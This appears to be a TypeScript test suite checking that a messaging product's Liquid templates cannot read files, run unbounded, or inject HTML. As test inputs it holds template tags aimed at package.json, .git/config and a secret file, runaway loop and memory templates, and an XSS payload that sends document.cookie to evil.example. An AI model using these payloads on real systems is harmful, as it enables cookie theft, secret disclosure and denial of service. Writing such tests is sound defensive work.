/**
 * Liquid templates render untrusted data (a contact's own traits, event properties): no file
 * system, bounded time and size, and HTML escaped by default in html fields.
 */
import type { FlowInput, Step } from '../flows/schema';
import { renderFields, MAX_RENDERED_CHARS } from '../flows/templates';
import { Harness } from './helpers/harness';

let h: Harness;

beforeAll(async () => {
  h = await Harness.start();
});
afterAll(() => h?.stop());

const email = (html: string, subject = 'Hello'): Step => ({ id: 'mail', type: 'email', subject, html }) as Step;
const context = { contact: { firstName: '<b>Ada</b>' }, event: { name: 'X', properties: {} } };
const flowWith = (step: Record<string, unknown>): FlowInput =>
  ({ name: 'Templates', status: 'live', trigger: { event: 'Signed Up' }, steps: [step] }) as unknown as FlowInput;

describe('no file system', () => {
  test.each([
    ["{% include 'package.json' %}"],
    ["{% render '../package.json' %}"],
    ["{% include '.git/config' %}"],
    ["{% layout '.data/link-secret' %}<p>x</p>"],
  ])('%s is refused when the flow is saved, with the path', async (html) => {
    const res = await h
      .http('put', '/v1/flows/reads-files')
      .send(flowWith({ id: 'mail', type: 'email', subject: 'x', html }));
    expect(res.status).toBe(400);
    expect(res.body.error.issues).toEqual([
      expect.objectContaining({
        path: ['steps', 0, 'html'],
        message: expect.stringMatching(/not available: templates cannot read files/),
      }),
    ]);
  });

  test('a stored template that includes a file (saved before the check) fails to render and reads nothing', async () => {
    await expect(renderFields(email("{% include 'package.json' %}"), context)).rejects.toThrow(/not available/);
    // Not even through the plain-text engine (subjects, SMS, webhooks).
    await expect(
      renderFields({ id: 's', type: 'sms', body: "{% render 'package.json' %}" } as Step, context),
    ).rejects.toThrow(/not available/);
  });
});

describe('bounded work', () => {
  // 60 bytes: a hundred million iterations if nothing stops it.
  const loop = '{% for i in (1..10000) %}{% for j in (1..10000) %}{% endfor %}{% endfor %}';

  test('a 60-byte nested loop stops at the render time limit (a second), not after minutes', async () => {
    expect(loop.length).toBeLessThanOrEqual(75);
    const started = Date.now();
    await expect(renderFields(email(loop), context)).rejects.toThrow(/render limit exceeded/);
    // Generous for a loaded machine; unbounded, the loop runs for minutes.
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  test('a template that allocates without end stops at the memory limit', async () => {
    const doubling =
      "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}";
    await expect(renderFields(email(doubling), context)).rejects.toThrow(/memory alloc limit exceeded/);
  });

  test('rendered output larger than the limit is refused', async () => {
    const chunk = 'x'.repeat(100_000);
    const big = `{% for i in (1..${MAX_RENDERED_CHARS / chunk.length + 1}) %}{{ contact.chunk }}{% endfor %}`;
    await expect(renderFields(email(big), { ...context, contact: { chunk } })).rejects.toThrow(/larger than/);
  });

  test('preview of a flow with a runaway loop answers quickly with the error for that step', async () => {
    await h.putFlow('loopy', flowWith({ id: 'mail', type: 'email', subject: 'x', html: loop }));
    const started = Date.now();
    const res = await h.http('post', '/v1/flows/loopy/preview').send({});
    expect(res.status).toBe(200);
    expect(res.body.messages[0]).toMatchObject({ stepId: 'mail', error: expect.stringMatching(/limit exceeded/) });
    expect(Date.now() - started).toBeLessThan(6_000);
  });

  test('a template longer than the parse limit is refused at save', async () => {
    const res = await h
      .http('put', '/v1/flows/huge')
      .send(flowWith({ id: 'mail', type: 'email', subject: 'x', html: 'x'.repeat(200_001) }));
    expect(res.status).toBe(400);
    expect(res.body.error.issues[0].path).toEqual(['steps', 0, 'html']);
  });
});

describe('HTML escaped by default in html fields', () => {
  test('html escapes output, raw opts out, escape is not applied twice, plain-text fields are left alone', async () => {
    const rendered = await renderFields(
      email(
        '<p>Hi {{ contact.firstName }}</p>{{ contact.firstName | raw }}|{{ contact.firstName | escape }}|{{ contact.firstName | upcase }}',
        'Hi {{ contact.firstName }}',
      ),
      context,
    );
    expect(rendered.html).toBe(
      '<p>Hi &lt;b&gt;Ada&lt;/b&gt;</p><b>Ada</b>|&lt;b&gt;Ada&lt;/b&gt;|&lt;B&gt;ADA&lt;/B&gt;',
    );
    expect(rendered.subject).toBe('Hi <b>Ada</b>');
  });

  test("a contact's own firstName cannot put HTML into the email sent to them", async () => {
    await h.putFlow('welcome-xss', {
      name: 'Welcome',
      status: 'live',
      trigger: { event: 'Signed Up' },
      smartSending: { enabled: false },
      steps: [
        {
          id: 'hello',
          type: 'email',
          subject: 'Welcome {{ contact.firstName }}',
          html: '<p>Welcome {{ contact.firstName }}</p>{{ event.properties.banner | raw }}',
        },
      ],
    } as FlowInput);
    const payload = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
    await h.identify('mallory', { email: 'mallory@example.com', firstName: payload });
    await h.track({
      userId: 'mallory',
      event: 'Signed Up',
      properties: { banner: '<img src="https://shop.example/banner.png">' },
    });
    await h.result('welcome-xss', 'mallory');
    const sent = h.sendgrid.emails.find((e) => e.to === 'mallory@example.com');
    expect(sent).toBeDefined();
    expect(sent!.html).toContain(
      '<p>Welcome &lt;img src=x onerror=&#34;fetch(`//evil.example/`+document.cookie)&#34;&gt;</p>',
    );
    expect(sent!.html).not.toContain('<img src=x');
    // What the author marked raw is HTML, as intended.
    expect(sent!.html).toContain('<img src="https://shop.example/banner.png">');
  });
});
